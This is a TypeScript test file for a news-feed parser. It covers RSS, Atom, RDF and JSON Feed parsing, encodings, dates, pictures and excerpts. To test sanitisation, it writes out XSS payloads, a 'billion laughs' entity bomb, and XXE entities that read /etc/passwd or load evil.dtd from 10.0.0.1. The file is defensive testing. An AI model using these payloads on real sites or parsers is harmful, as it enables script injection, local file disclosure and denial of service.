/** Feeds of every kind, well and badly made: what is read of them, and that nothing in it can run. */
import { describe, expect, test } from 'vitest';
import { feedDateMs } from '../../api/src/feeds/dates.ts';
import { decodeFeed } from '../../api/src/feeds/decode.ts';
import { LONGEST_MS } from '../../api/src/feeds/pace.ts';
import { plainTextOf } from '../../api/src/feeds/plain-text.ts';
import { MAX_ITEMS, readFeed, type FeedRead } from '../../api/src/feeds/read-feed.ts';
import { atom, DTD_091, ITEMS, jsonFeed, rdf, rss, rss090, type MadeItem } from './made-feeds.ts';

const NOW = Date.parse('2026-11-23T12:00:00Z');
const URL_OF_FEED = 'https://port.example/feed.xml';
const bytesOf = (text: string) => new TextEncoder().encode(text);
const read = (text: string | Uint8Array, charset?: string): FeedRead =>
  readFeed({ bytes: typeof text === 'string' ? bytesOf(text) : text, charset, url: URL_OF_FEED, nowMs: NOW });

function feed(text: string | Uint8Array, charset?: string): Extract<FeedRead, { kind: 'feed' }> {
  const found = read(text, charset);
  if (found.kind !== 'feed') throw new Error(`refused: ${found.trouble}`);
  return found;
}
const one = (item: MadeItem) => feed(rss([item])).items[0];
const latin1 = (text: string) => Uint8Array.from(text, (sign) => sign.codePointAt(0) ?? 0);

describe('every kind', () => {
  test.each([
    ['RSS 2.0', rss(), 'rss'],
    ['RSS 0.92', rss(ITEMS, { version: '0.92' }), 'rss'],
    ['RSS 0.91 with its document type', rss(ITEMS, { version: '0.91', prolog: DTD_091 }), 'rss'],
    ['Atom', atom(), 'atom'],
    ['RDF', rdf(), 'rdf'],
    ['JSON Feed', jsonFeed(), 'json'],
  ])('%s', (_name, text, format) => {
    const found = feed(text);
    expect([found.format, found.title, found.site, found.language]).toEqual([
      format,
      'Nouvelles du port',
      'https://port.example/',
      'fr',
    ]);
    expect(found.items.map(({ title, url, dated }) => [title, url, dated])).toEqual([
      [ITEMS[0]?.title, 'https://port.example/quai-nord?id=7', 'said'],
      [ITEMS[1]?.title, 'https://port.example/batteries', 'said'],
      [ITEMS[2]?.title, 'https://port.example/hiring', 'said'],
    ]);
    expect(found.items[0]?.excerpt).toBe(
      'Après six semaines de travaux, le quai nord accueille de nouveau les camions.',
    );
    expect(found.items.map(({ publishedAtMs }) => new Date(publishedAtMs).toISOString())).toEqual([
      '2026-11-23T08:00:00.000Z',
      '2026-11-22T17:30:00.000Z',
      '2026-11-21T12:15:00.000Z',
    ]);
  });

  test('RSS 0.90, which knows titles and links alone', () => {
    expect(feed(rss090()).items.map(({ title, dated }) => [title, dated])).toEqual(
      ITEMS.map(({ title }) => [title, 'absent']),
    );
  });

  test('what a feed asks between two visits', () => {
    expect(feed(rss(ITEMS, { channel: '<ttl>90</ttl>' })).ttlMs).toBe(90 * 60_000);
    expect(feed(rss(ITEMS)).ttlMs).toBeUndefined();
    const sy = (often: string) =>
      `<sy:updatePeriod xmlns:sy="http://purl.org/rss/1.0/modules/syndication/">yearly</sy:updatePeriod><sy:updateFrequency xmlns:sy="http://purl.org/rss/1.0/modules/syndication/">${often}</sy:updateFrequency>`;
    for (const channel of ['<ttl>1e999</ttl>', '<ttl>99999999999</ttl>', sy('1e-300'), sy('1')]) {
      expect(feed(rss(ITEMS, { channel })).ttlMs).toBe(LONGEST_MS);
    }
    expect(feed(rss(ITEMS, { channel: '<ttl>-4</ttl>' })).ttlMs).toBeUndefined();
  });
});

describe('encodings', () => {
  const french = rss([{ title: 'Été à l’œuvre', link: 'https://port.example/ete' }]);
  test('as declared, though nothing was sent', () => {
    const declared = rss([{ title: 'Été déjà', link: 'https://port.example/a' }], { encoding: 'ISO-8859-1' });
    expect(feed(latin1(declared)).items[0]?.title).toBe('Été déjà');
  });
  test('as sent, though nothing is declared', () => {
    const text = rss([{ title: 'Été', link: 'https://port.example/a' }]).replace(' encoding="utf-8"', '');
    expect(feed(latin1(text), 'iso-8859-15').items[0]?.title).toBe('Été');
  });
  test.each(['iso-8859-1', 'us-ascii', 'x-nonsense'])('UTF-8 that is sent as %s is read as UTF-8', (charset) => {
    expect(feed(french, charset).items[0]?.title).toBe('Été à l’œuvre');
  });
  test('UTF-8 that is no UTF-8 is read as what western Europe writes', () => {
    expect(feed(latin1(rss([{ title: 'Élan', link: 'https://port.example/a' }]))).items[0]?.title).toBe('Élan');
  });
  test('windows-1251', () => {
    const text = rss([{ title: 'X', link: 'https://port.example/a' }], { encoding: 'windows-1251' });
    const bytes = latin1(text.replace('>X<', '>\u00d6\u00e8\u00f2\u00e0\u00f2\u00e0<'));
    expect(feed(bytes).items[0]?.title).toBe('Цитата');
  });
  test('UTF-16 with and without its mark', () => {
    const wide = (text: string) => new Uint8Array(Uint16Array.from(text, (sign) => sign.charCodeAt(0)).buffer);
    expect(feed(wide(`\ufeff${french}`)).items[0]?.title).toBe('Été à l’œuvre');
    expect(feed(wide(french)).items[0]?.title).toBe('Été à l’œuvre');
  });
  test('no bytes make it throw', () => {
    for (let seed = 0; seed < 300; seed += 1) {
      const noise = Uint8Array.from({ length: 64 }, (_, at) => (seed * 31 + at * at * 7 + (seed >> 3)) % 256);
      expect(typeof decodeFeed(noise, 'utf-16').text).toBe('string');
    }
  });
});

describe('what is wrong with a feed is said', () => {
  test.each([
    ['html', '<!doctype html><html><head><title>Bienvenue</title></head><body><p>Bonjour<br></body></html>'],
    ['html', '<html><body>404</body></html>'],
    ['not-a-feed', '{"hello":"world"}'],
    ['not-a-feed', '<?xml version="1.0"?><catalog><book/></catalog>'],
    ['not-a-feed', 'hello'],
    ['empty', ''],
    ['empty', ' \n\t '],
    ['malformed', '<rss version="2.0"><channel><title>Port</title><item><title>On'],
  ])('%s', (trouble, text) => {
    expect(read(text)).toEqual({ kind: 'refused', trouble });
  });

  test('a feed that was cut off is read up to its last whole item', () => {
    for (const text of [rss(), atom(), rdf()]) {
      const cut = feed(text.slice(0, text.lastIndexOf('Fewer')));
      expect([cut.mended, cut.items.length]).toEqual([true, 2]);
    }
  });

  test('a feed without items is a feed', () => {
    expect(feed(rss([])).items).toEqual([]);
  });

  test('at most so many items are read', () => {
    const many = Array.from({ length: MAX_ITEMS + 50 }, (_, at) => ({
      title: `Titre ${at}`,
      link: `https://port.example/${at}`,
    }));
    expect(feed(rss(many)).items).toHaveLength(MAX_ITEMS);
  });
});

describe('entities', () => {
  test('those that HTML knows and the feed never declared', () => {
    expect(one({ title: 'Caf&eacute;&nbsp;&rarr; R&amp;D', text: 'a &hellip; b' })?.title).toBe('Café → R&D');
  });
  test('declared ones are not expanded: a bomb stays small', () => {
    const bomb = `<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 12 }, (_, at) => `<!ENTITY b${at} "${`&${at === 0 ? 'a' : `b${at - 1}`};`.repeat(12)}">`).join('')}]>`;
    const found = feed(rss([{ title: 'Bombe &b11;', link: 'https://port.example/b' }], { prolog: bomb }));
    expect(found.items[0]?.title.length).toBeLessThan(30);
  });
  test('external ones are not fetched and not shown', () => {
    const prolog =
      '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "http://10.0.0.1/evil.dtd"> %y;]>';
    expect(feed(rss([{ title: 'Lu &x;', link: 'https://port.example/b' }], { prolog })).items[0]?.title).not.toContain(
      'root:',
    );
  });
  test('depth, bare ampersands, forbidden signs', () => {
    expect(one({ title: `R&D ${'<b>'.repeat(5_000)}x` })?.title ?? '').not.toContain('<b>');
    expect(one({ title: 'AT&T \u0000\u0008\u200b\u202eok' })?.title).toBe('AT&T ok');
  });
});

describe('dates', () => {
  const dated = (date?: string) => {
    const item = one({ title: 'Titre', ...(date === undefined ? {} : { date }) });
    return [item?.dated, new Date(item?.publishedAtMs ?? 0).toISOString()];
  };
  test('absent, unreadable or before there were feeds: the time of fetching stands in', () => {
    for (const date of [undefined, 'hier soir', 'Thu, 01 Jan 1970 00:00:00 GMT', '']) {
      expect(dated(date)).toEqual(['absent', '2026-11-23T12:00:00.000Z']);
    }
  });
  test('in 2099', () => {
    expect(dated('Thu, 01 Jan 2099 00:00:00 GMT')).toEqual(['future', '2026-11-23T12:00:00.000Z']);
  });
  test('a clock that is a few minutes ahead is believed, up to now', () => {
    expect(dated('Mon, 23 Nov 2026 12:05:00 GMT')).toEqual(['said', '2026-11-23T12:00:00.000Z']);
  });
  test.each([
    ['Mon, 23 Nov 2026 13:00:00 CET', '2026-11-23T12:00:00.000Z'],
    ['Sun, 12 Jul 2026 14:00:00 CEST', '2026-07-12T12:00:00.000Z'],
    ['23 Nov 26 12:00 GMT', '2026-11-23T12:00:00.000Z'],
    ['Mon, 23 Nov 2026 12:00:00', '2026-11-23T12:00:00.000Z'],
    ['2026-11-23', '2026-11-23T00:00:00.000Z'],
    ['2026-11-23T12:00:00', '2026-11-23T12:00:00.000Z'],
    ['2026-11-23 13:00:00+0100', '2026-11-23T12:00:00.000Z'],
    ['lundi 23 novembre 2026 12:00', '2026-11-23T12:00:00.000Z'],
    ['ven., 14 août 2026 12:00:00 +0200', '2026-08-14T10:00:00.000Z'],
  ])('%s', (text, instant) => {
    expect(new Date(feedDateMs(text) ?? 0).toISOString()).toBe(instant);
  });
});

describe('nothing that runs is left', () => {
  const POISON = [
    '<script>alert(1)</script>',
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">lire</a>',
    '<svg/onload=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<style>@import url(http://10.0.0.1)</style>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<p style="background:url(javascript:alert(1))" onclick=alert(1)>texte</p>',
    '<<script>script>alert(1)<</script>/script>',
    '<!--><script>alert(1)</script>-->',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  ];
  test('in no field of a story, whatever attribute or element it came in', () => {
    const items = POISON.flatMap((poison, at): MadeItem[] => [
      {
        title: `${poison} Titre ${at}`.replaceAll('<', '&lt;'),
        text: poison,
        link: 'javascript:alert(1)',
        guid: poison.replaceAll('<', '&lt;'),
      },
      {
        title: `Titre bis ${at}`,
        text: 'x',
        link: 'data:text/html,x',
        extra: `<content:encoded><![CDATA[${poison}]]></content:encoded><enclosure url="javascript:alert(1)" type="image/png" length="1"/><media:thumbnail url="vbscript:x"/>`,
      },
    ]);
    const found = feed(rss(items));
    expect(found.items).toHaveLength(items.length);
    for (const { title, excerpt = '', url, pictureUrl } of found.items) {
      expect(`${title} ${excerpt}`).not.toMatch(/<[a-z!/]|onerror|onclick|javascript:/i);
      expect([url, pictureUrl].filter((address) => address !== undefined && !/^https?:/.test(address))).toEqual([]);
    }
    expect(found.items.every(({ url }) => url === undefined)).toBe(true);
  });

  test('a link out of the web is none', () => {
    for (const link of ['file:///etc/passwd', 'ftp://port.example/', 'mailto:x@y.example', '//', 'http://']) {
      expect(one({ title: 'Titre', link })?.url).toBeUndefined();
    }
    expect(one({ title: 'Titre', link: '/article' })?.url).toBe('https://port.example/article');
    expect(
      one({ title: 'Titre', link: 'https://moi:secret@port.example/a?fbclid=1&utm_medium=rss&page=2#xtor=RSS' })?.url,
    ).toBe('https://port.example/a?page=2');
  });

  test('text keeps its words apart', () => {
    expect(plainTextOf('<p>Un</p><p>deux<br>trois</p><ul><li>quatre</ul> c<b>in</b>q').text).toBe(
      'Un deux trois quatre cinq',
    );
  });
});

describe('the one picture', () => {
  const picture = (extra: string, text = 'Texte') => one({ title: 'Titre', text, extra })?.pictureUrl;
  test.each([
    ['<enclosure url="https://port.example/a.jpg" type="image/jpeg" length="1"/>', 'https://port.example/a.jpg'],
    [
      '<media:content url="https://port.example/s.jpg" medium="image" width="90"/><media:content url="https://port.example/l.jpg" medium="image" width="900"/>',
      'https://port.example/l.jpg',
    ],
    ['<media:thumbnail url="/t.png"/>', 'https://port.example/t.png'],
    [
      '<content:encoded><![CDATA[<p>Oui</p><img src="https://port.example/in.webp">]]></content:encoded>',
      'https://port.example/in.webp',
    ],
    ['<enclosure url="https://port.example/a.mp3" type="audio/mpeg" length="1"/>', undefined],
    ['<media:content url="https://port.example/a.svg" medium="image"/>', undefined],
  ])('%s', (extra, url) => expect(picture(extra)).toBe(url));
  test('never a pixel that counts readers', () => {
    expect(
      picture(
        '',
        '<img src="https://t.example/p.gif" width="1" height="1"><img src="https://port.example/b.jpg" alt="Le quai">',
      ),
    ).toBe('https://port.example/b.jpg');
  });
});

test('an excerpt ends where a sentence or a word ends, and is no article', () => {
  const text = 'Une phrase entière qui dit quelque chose. '.repeat(60);
  const excerpt = one({ title: 'Titre', text })?.excerpt ?? '';
  expect(excerpt.length).toBeLessThanOrEqual(360);
  expect(excerpt).toMatch(/chose\.$/);
  expect(one({ title: 'Titre', text: 'mot '.repeat(500) })?.excerpt).toMatch(/mot…$/);
});
